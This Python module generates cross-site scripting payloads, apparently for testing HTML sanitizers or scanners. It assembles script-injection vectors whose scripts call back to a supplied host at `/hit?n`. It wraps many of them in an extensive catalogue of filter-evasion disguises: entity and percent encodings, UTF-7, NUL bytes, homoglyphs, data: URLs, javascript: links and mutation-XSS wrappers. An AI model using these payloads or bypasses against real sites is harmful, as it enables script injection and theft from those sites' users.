"""Texts that would run a script, or load something, if a page took them for markup."""

import base64
import random
import re
import tomllib
from collections.abc import Callable, Iterator, Sequence
from html import escape
from pathlib import Path
from typing import TypeVar
from urllib.parse import quote

SEED = 0
PLAIN_SHARE = 0.4
"""How many of the payloads stay as they are; each of the others is disguised."""

_PARTS = Path(__file__).with_name("payloads.toml")
_TAG_NAME = re.compile(r"(?<=<)[a-z]{2,}")

Item = TypeVar("Item")


def make_payloads(count: int, host: str, seed: int = SEED) -> list[str]:
    """Return different payloads; the n-th asks `http://host/hit?n` for something when it works.

    Every exit, vector, script and disguise takes part from some hundred payloads on.
    """
    parts = tomllib.loads(_PARTS.read_text(encoding="utf-8"))
    chance = random.Random(seed)
    exits, vectors, scripts = (_deal(parts[name], chance) for name in ("exits", "vectors", "scripts"))
    disguises = _deal(DISGUISES, chance)
    found: dict[str, None] = {}
    while len(found) < count:
        plain = next(exits) + _fill(next(vectors), next(scripts), f"{host}/hit?{len(found)}")
        found[plain if chance.random() < PLAIN_SHARE else next(disguises)(plain)] = None
    return list(found)


def _deal(items: Sequence[Item], chance: random.Random) -> Iterator[Item]:
    """Yield the items for ever, each pass in another order, so that every item comes equally often."""
    while True:
        yield from chance.sample(items, len(items))


def _fill(vector: str, script: str, place: str) -> str:
    url = f"http://{place}"
    script = script.replace("%URL%", url)
    data = base64.b64encode(f"<script>top.{script}</script>".encode()).decode()
    filled = vector.replace("%JS%", script).replace("%DATA%", data)
    return filled.replace("%URL%", url).replace("%HOST%", place)


def _inside(before: str, after: str) -> Callable[[str], str]:
    return lambda text: f"{before}{text}{after}"


def _swapping(old: str, new: str) -> Callable[[str], str]:
    return lambda text: text.replace(old, new)


def _utf_7(text: str) -> str:
    return text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")


def _numbered(form: str) -> Callable[[str], str]:
    """Return a disguise that writes what is special to HTML by its number."""
    return lambda text: re.sub("[<>\"'&]", lambda match: form.format(ord(match.group())), text)


def _mixed_case(text: str) -> str:
    return _TAG_NAME.sub(lambda match: match.group().title().swapcase(), text)


def _nul_in_tags(text: str) -> str:
    return _TAG_NAME.sub(lambda match: f"{match.group()[0]}\0{match.group()[1:]}", text)


def _unicode_escapes(text: str) -> str:
    return text.replace("document", "\\u0064ocument").replace("<", "\\u003c")


def _as_data_url(text: str) -> str:
    content = base64.b64encode(text.encode(errors="surrogatepass")).decode()
    return f'"><iframe src="data:text/html;base64,{content}"></iframe>'


DISGUISES: tuple[Callable[[str], str], ...] = (
    escape,
    lambda text: escape(escape(text)),
    lambda text: escape(text).replace("&lt;", "<"),
    _numbered("&#{};"),
    _numbered("&#{}"),
    _numbered("&#x{:x};"),
    _numbered("&#0000000{}"),
    _numbered("&amp;#{};"),
    _numbered("\\x{:02x}"),
    _numbered("%{:02X}"),
    _numbered("%25{:02X}"),
    _utf_7,
    _mixed_case,
    _nul_in_tags,
    _unicode_escapes,
    _as_data_url,
    str.swapcase,
    _swapping(" ", "\t"),
    _swapping(" ", "/"),
    _swapping(" ", "\f"),
    _swapping(" ", "\n"),
    _swapping(" ", "\u2028"),
    _swapping(" ", "\u00a0"),
    _swapping("<", "<\0"),
    _swapping("<", "<<"),
    _swapping("<", "<\u200b"),
    _swapping("<", "\uff1c"),
    _swapping("<", "\u2039"),
    _swapping("<", "\u226e\u0338<"),
    _swapping("<", "\ud800<"),
    _swapping("<", "\u202e<"),
    _swapping('"', "`"),
    _swapping('"', '\\"'),
    _swapping('"', "'"),
    _swapping('"', "\u201d"),
    _swapping("\n", "\r"),
    _inside("\ufeff", "\x1a"),
    _inside("\x1b[2J\x1b]0;", "\x07"),
    _inside("<!--", "-->"),
    _inside("<![CDATA[", "]]>"),
    _inside("<svg><![CDATA[", "]]></svg>"),
    _inside("<svg><title>", "</title></svg>"),
    _inside("<math><mtext><table><mglyph><style>", "</style></mglyph></table></mtext></math>"),
    _inside("<template>", "</template>"),
    _inside("<noscript>", "</noscript>"),
    _inside("<style>", "</style>"),
    _inside("<title>", "</title>"),
    _inside("<textarea>", "</textarea>"),
    _inside("<select><option>", "</select>"),
    _inside("<table><tr>", "</tr></table>"),
    _inside('"><b title="', '">'),
    lambda text: f'"><iframe srcdoc="{escape(text)}"></iframe>',
    lambda text: f"<a href='javascript:{quote(text, errors='surrogatepass')}'>go</a>",
)
